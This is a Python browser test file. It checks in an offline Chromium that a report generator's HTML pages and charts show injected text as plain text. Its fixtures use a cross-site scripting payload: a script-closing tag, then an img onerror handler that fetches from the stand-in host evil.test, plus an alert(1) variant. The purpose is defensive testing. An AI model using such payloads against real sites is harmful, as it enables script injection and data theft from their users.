"""Reports in a real browser, without a network: hostile text stays text, every chart is drawn, nothing is asked for."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import chromium
import nbformat
import polars as pl
import pytest
from encoders import WordEncoder
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from playwright.sync_api import Browser, Page, sync_playwright

from learnlab.ingest.batch import REJECTED_SCHEMA
from learnlab.reports.run import ReportRun, run_reports
from learnlab.search.encoders.weights import PACKAGED_KEY
from learnlab.search.index.backlog import encode_waiting
from learnlab.settings import resources
from learnlab.store import Store
from learnlab.store.frames import conform
from learnlab.store.limits import SCHEMA

pytestmark = pytest.mark.browser

HOSTILE = "</script><img src=x onerror=\"window.pwned=1;fetch('http://evil.test/')\">"
FLAGS = (
    "--headless --no-sandbox --disable-gpu --disable-background-networking --disable-component-update"
    " --disable-sync --no-first-run"
)


def hostile_executions(n: int) -> pl.DataFrame:
    """Return n executions with hostile text in every text field that takes any text, and figures to draw."""
    rows: dict[str, list[Any]] = {
        "timestamp": [datetime(2026, 3, 1) + timedelta(hours=3 * i) for i in range(n)],
        "model_tier": [("small", "medium", "large")[i % 3] for i in range(n)],
        "success": [i % 4 != 0 for i in range(n)],
        "success_source": ["verifier"] * n,
        "duration_seconds": [5.0 + i % 17 for i in range(n)],
        "quality_score": [50.0 + i % 40 for i in range(n)],
        "cost_estimate": [0.01 * (1 + i % 5) for i in range(n)],
        "actual_cost": [0.012 * (1 + i % 7) for i in range(n)],
        "cost_source": ["reported"] * n,
        "input_tokens": [100 + i for i in range(n)],
        "output_tokens": [50 + i for i in range(n)],
        "metadata": ['{"note": "</script><img src=x onerror=alert(1)>"}'] * n,
        "error_type": [None if i % 4 else "crash" for i in range(n)],
    }
    free = [
        "task_type",
        "task_description",
        "repo",
        "pool_type",
        "agent",
        "model",
        "error_message",
        "solution_summary",
    ]
    free += ["task_group", "session_id", "external_id", "price_version", "source"]
    assert set(free) | set(rows) < set(SCHEMA)
    variants = {name: [f"{HOSTILE} {i % 2}" for i in range(n)] for name in free}
    variants["task_group"] = [f"{HOSTILE} {i // 6}" for i in range(n)]
    variants["price_version"] = [HOSTILE[:90]] * n
    good, faults = conform(pl.DataFrame(rows | variants))
    assert faults.is_empty(), faults
    return good.drop("row")


OWN = [
    "import learnlab as ll, polars as pl, altair as alt\nfrom IPython.display import HTML, Markdown, display",
    "repos = ll.sql('select repo, count(*) as n from executions group by repo', db=db)\nrepos",
    "alt.Chart(repos, title=text).mark_bar(size=20).encode(x='n:Q', y='repo:N', tooltip=['repo', 'n'])",
    "print(text)\ntext",
    "display(HTML(data=text), Markdown(text))\nll.publish(repos, 'repos')\nll.table(repos, text)",
    "ll.say(text, repos['repo'][0])",
]


def hostile_run(folder: Path) -> ReportRun:
    """Run the notebooks of the house and two of our own on a store full of hostile text.

    Left out is the one that fills its store by itself: it would add to what the others look at.
    """
    store = Store(folder / "hostile.duckdb").ensure()
    refused = pl.DataFrame([[1], [HOSTILE], [HOSTILE]], schema=REJECTED_SCHEMA)
    store.add(hostile_executions(600), refused, n_rows_read=601, source=HOSTILE, mapping=HOSTILE)
    encode_waiting(store, WordEncoder(PACKAGED_KEY))
    cell = new_code_cell("db = ''\ntext = ''", metadata={"tags": ["parameters"]})
    heading = new_markdown_cell(f"# Ours {HOSTILE}\n\nWhat does {HOSTILE} do?")
    nbformat.write(new_notebook(cells=[heading, cell, *map(new_code_cell, OWN)]), folder / "ours.ipynb")
    nbformat.write(
        new_notebook(cells=[cell, new_code_cell("raise ValueError(text)")]), folder / "fails.ipynb"
    )
    there = sorted(resources("notebooks").glob("*.ipynb"))
    house = [str(path) for path in there if path.stem != "12_live_capture"]
    named = [*house, str(folder / "ours.ipynb"), str(folder / "fails.ipynb")]
    return run_reports(named, {"text": HOSTILE}, db=store.path, out=folder / "out", timeout=300)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """The system's Chromium, else playwright's own."""
    path = chromium.find()
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=path, args=FLAGS.split())
        yield launched
        launched.close()


class Watched:
    """A page with the network off, and everything it asked for, complained about or popped up."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        self.said: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("pageerror", lambda error: self.said.append(str(error)))
        page.on("console", lambda line: line.type == "error" and self.said.append(line.text))
        page.on("dialog", lambda dialog: (self.said.append(dialog.message), dialog.dismiss()))

    def open(self, path: Path) -> None:
        self.page.goto(path.as_uri(), wait_until="load")
        self.page.wait_for_function("[...document.querySelectorAll('figure')].every(f => f.dataset.drawn)")

    def evaluate(self, script: str) -> Any:
        return self.page.evaluate(script)


@contextmanager
def watched(browser: Browser) -> Iterator[Watched]:
    with browser.new_context() as context:
        context.set_offline(True)
        context.route("http*://**", lambda route: route.abort())
        yield Watched(context.new_page())


def test_the_watch_sees_what_an_unsafe_page_does(browser: Browser, tmp_path: Path) -> None:
    (tmp_path / "unsafe.html").write_text(f"<body><script>1{HOSTILE}", encoding="utf-8")
    with watched(browser) as unsafe:
        unsafe.open(tmp_path / "unsafe.html")
        unsafe.page.wait_for_function("window.pwned === 1")
        assert any(url.endswith("/x") for url in unsafe.asked)
        assert unsafe.said


def hostile_text_is_text_in_every_report_and_every_chart_is_drawn(
    reports: ReportRun, browser: Browser
) -> None:
    failed = {result.notebook.name: result.why for result in reports.results if not result.ok}
    assert set(failed) == {"fails"}, failed
    drawn: dict[str, int] = {}
    shows_text: set[str] = set()
    for path in sorted(reports.folder.glob("*.html")):
        with watched(browser) as seen:
            seen.open(path)
            assert seen.asked == [path.as_uri()], path.name
            assert seen.said == [], path.name
            assert seen.evaluate("window.pwned") is None, path.name
            assert seen.evaluate("document.querySelectorAll('img[src=x], [onerror]').length") == 0, path.name
            figures = seen.evaluate(
                "[...document.querySelectorAll('figure')].map(f => "
                "[f.dataset.drawn, f.querySelectorAll('svg path, svg text').length > 3, f.ariaLabel])"
            )
            assert all(done == "yes" and marks and label for done, marks, label in figures), (
                path.name,
                figures,
            )
            drawn[path.stem] = len(figures)
            seen.evaluate("document.querySelectorAll('script').forEach(script => script.remove())")
            if "<img src=x onerror=" in seen.evaluate("document.body.textContent"):
                shows_text.add(path.stem)
    for result in reports.results:
        charts = sum(
            "vegalite" in str(list(o.get("data", {})))
            for c in result.node.cells
            for o in c.get("outputs", [])
        )
        assert drawn[result.notebook.name] == charts, result.notebook.name
    assert {
        "index",
        "ours",
        "fails",
        "10_ingestion",
        "20_tier_performance",
        "21_pool_performance",
    } <= shows_text
    assert drawn["ours"] == 1
    assert sum(drawn.values()) > 1


def a_tooltip_is_text(reports: ReportRun, browser: Browser) -> None:
    with watched(browser) as seen:
        seen.open(reports.folder / "ours.html")
        seen.page.locator("figure svg .mark-rect path").first.hover()
        tip = seen.page.locator(".tip")
        tip.wait_for(state="visible")
        assert HOSTILE in tip.inner_text()
        assert tip.locator("*").count() == 0
        assert seen.evaluate("window.pwned") is None


def a_chart_has_its_data_beside_it_as_a_table(reports: ReportRun, browser: Browser) -> None:
    with watched(browser) as seen:
        seen.open(reports.folder / "ours.html")
        seen.page.get_by_text("Data behind this chart").click()
        cells = seen.page.locator("details[open] td").all_inner_texts()
        assert sorted(cells) == sorted(["300", "300", f"{HOSTILE} 0", f"{HOSTILE} 1"])


def links_of_the_index_lead_to_pages_and_tables(reports: ReportRun, browser: Browser) -> None:
    with watched(browser) as seen:
        seen.open(reports.index)
        links = seen.evaluate("[...document.querySelectorAll('a')].map(a => a.getAttribute('href'))")
    assert len(links) > 2 * len(reports.results)
    assert [link for link in links if not (reports.folder / link).is_file()] == []


def test_reports_on_hostile_text(browser: Browser, tmp_path: Path, subtests: pytest.Subtests) -> None:
    reports = hostile_run(tmp_path)
    for check in (
        hostile_text_is_text_in_every_report_and_every_chart_is_drawn,
        a_tooltip_is_text,
        a_chart_has_its_data_beside_it_as_a_table,
        links_of_the_index_lead_to_pages_and_tables,
    ):
        with subtests.test(check.__name__):
            check(reports, browser)
